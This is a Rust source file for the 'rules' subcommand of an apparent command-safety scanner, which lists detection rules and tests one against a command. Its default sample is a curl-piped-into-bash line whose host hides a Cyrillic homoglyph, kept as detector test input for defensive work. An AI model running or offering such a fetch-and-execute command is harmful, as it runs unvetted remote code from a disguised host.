//! Rules command: list rules and try one against a command.

use colored::*;
use std::process::ExitCode;
use tracing::info;

use crate::cli::args::RulesAction;
use crate::cli::input;
use crate::config::Config;
use crate::detection::{self, Rule, RuleConfig};

/// Sample with a Cyrillic 'а' in the host and a pipe into bash.
const SAMPLE_COMMAND: &str = "curl -sSL https://inst\u{0430}ll.example | bash";

/// Execute the `rules` subcommand (list, test).
pub fn cmd_rules(config: &Config, action: RulesAction) -> anyhow::Result<ExitCode> {
    match action {
        RulesAction::List => {
            for rule in Rule::ALL {
                if config.enabled(rule.config_key()) {
                    println!("{}", rule.id());
                } else {
                    println!("{} {}", rule.id(), "(disabled)".dimmed());
                }
            }
            Ok(ExitCode::SUCCESS)
        }
        RulesAction::Test { rule, command } => {
            let rule: Rule = rule.parse()?;
            let cmd = if command.is_empty() {
                SAMPLE_COMMAND.to_string()
            } else {
                input::joined(&command)
            };
            let result = detection::run(&cmd, config);
            let mut count = 0;
            for f in result.by_rule(rule.id()) {
                println!("{}: {}", f.rule_id().cyan(), f.issue());
                count += 1;
            }
            info!(rule = rule.id(), count, "Rule tested");
            Ok(ExitCode::SUCCESS)
        }
    }
}
